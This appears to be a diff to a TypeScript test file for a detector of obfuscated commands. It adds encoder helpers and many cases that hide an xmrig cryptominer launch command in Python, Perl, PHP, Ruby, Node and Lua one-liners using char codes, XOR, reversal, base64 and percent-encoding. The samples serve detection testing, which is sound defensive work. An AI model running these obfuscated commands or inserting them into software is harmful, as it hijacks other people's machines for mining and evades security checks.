@@ -15,6 +15,12 @@ const b64 = (data: string | Uint8Array): string => Buffer.from(data).toString('b
 const hex = (text: string): string => Buffer.from(text).toString('hex');
 const reversed = (text: string): string => [...text].reverse().join('');
 const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',');
+const numbers = (text: string, make: (code: number) => number): string =>
+  [...text].map((c) => make(c.charCodeAt(0))).join(',');
+const plusOne = (text: string): string => numbers(text, (code) => code + 1);
+const xor7 = (text: string): string => numbers(text, (code) => code ^ 7);
+const percent = (text: string): string =>
+  [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
 const rot13 = (text: string): string =>
   text.replace(/[a-zA-Z]/g, (c) => {
     const base = c <= 'Z' ? 65 : 97;
@@ -24,6 +30,8 @@ const B = b64(MINE);
 const H = hex(MINE);
 /** A program on the command line of its interpreter. */
 const py = (code: string): string => `python3 -c "${code}"`;
+const heredoc = (code: string, command: string): string =>
+  `python3 - <<'E'\nimport os\n${code}\nos.system(${command})\nE`;
 const js = (code: string): string => `node -e "${code}"`;
 const exec = (text: string): string => js(`require('child_process').exec(${text})`);
 const ZLIB = b64(deflateSync(MINE));
@@ -90,6 +98,56 @@ const CASES: readonly (readonly [technique: string, script: string])[] = [
     'node array rot',
     js(`a=['${W}','./xmrig',' -o ${P} -u '];require('child_process').exec(a[1]+a[2]+a[0])`),
   ],
+  [
+    'py chr of sums',
+    `python3 -c "import os;os.system(''.join(chr(c-1) for c in [${plusOne(MINE)}]))"`,
+  ],
+  [
+    'py bytes of xor',
+    `python3 -c "import os;os.system(bytes(c^7 for c in [${xor7(MINE)}]).decode())"`,
+  ],
+  ['py loop', heredoc(`s=''\nfor c in [${codes(MINE)}]:\n    s+=chr(c)`, 's')],
+  [
+    'py loop over places',
+    heredoc(
+      `a=[${codes(MINE)}]\ns=[]\nfor i in range(len(a)):\n    s.append(chr(a[i]))`,
+      "''.join(s)",
+    ),
+  ],
+  [
+    'py input',
+    `echo ${B} | ${py('import sys,base64 as b;print(b.b64decode(sys.stdin.read()).decode())')} | sh`,
+  ],
+  ['py input line', `echo '${reversed(MINE)}' | python3 -c "print(input()[::-1])" | sh`],
+  ['perl reverse', `perl -e 'exec scalar reverse "${reversed(MINE)}"'`],
+  ['perl map', `perl -e 'system(join "", map { chr($_-1) } (${plusOne(MINE)}))'`],
+  ['perl loop', `perl -e 'foreach(${codes(MINE)}){$s.=chr} system($s)'`],
+  ['perl q', `perl -e 'eval reverse q{${reversed(MINE)}}'`],
+  ['perl lines', `echo '${reversed(MINE)}' | perl -ne 'chomp; system(scalar reverse $_)'`],
+  ['perl lines printed', `echo ${B} | perl -MMIME::Base64 -ne 'print decode_base64($_)' | sh`],
+  ['perl edit', `echo '${MINE.replace('xmrig', 'abc')}' | perl -pe 's/abc/xmrig/' | sh`],
+  ['perl split', `perl -e 'print reverse split //, "${reversed(MINE)}"' | sh`],
+  ['php loop', `php -r 'foreach([${codes(MINE)}] as $c) $s.=chr($c); system($s);'`],
+  ['ruby map', `ruby -e 'system([${plusOne(MINE)}].map { |c| (c-1).chr }.join)'`],
+  ['ruby each', `ruby -e 's="";[${codes(MINE)}].each { |c| s << c.chr };system(s)'`],
+  ['node spread', exec(`[...'${reversed(MINE)}'].reverse().join('')`)],
+  ['node map', exec(`String.fromCharCode(...[${plusOne(MINE)}].map(x=>x-1))`)],
+  ['node percent', exec(`decodeURIComponent('${percent(MINE)}')`)],
+  [
+    'node loop',
+    js(
+      `let s='';for(const c of [${codes(MINE)}]) s+=String.fromCharCode(c);` +
+        "require('child_process').exec(s)",
+    ),
+  ],
+  [
+    'node counted loop',
+    js(
+      `const a=[${codes(MINE)}];let s='';for(let i=0;i<a.length;i++){s+=String.fromCharCode(a[i])};require('child_process').exec(s)`,
+    ),
+  ],
+  ['lua char', `lua -e 'os.execute(string.char(${codes(MINE)}))'`],
+  ['lua reverse', `lua -e 'os.execute(("${reversed(MINE)}"):reverse())'`],
   ['lua', `lua -e 'os.execute("${MINE}")'`],
   ['python heredoc', `python3 <<E\nimport os\nos.system("${MINE}")\nE`],
   [
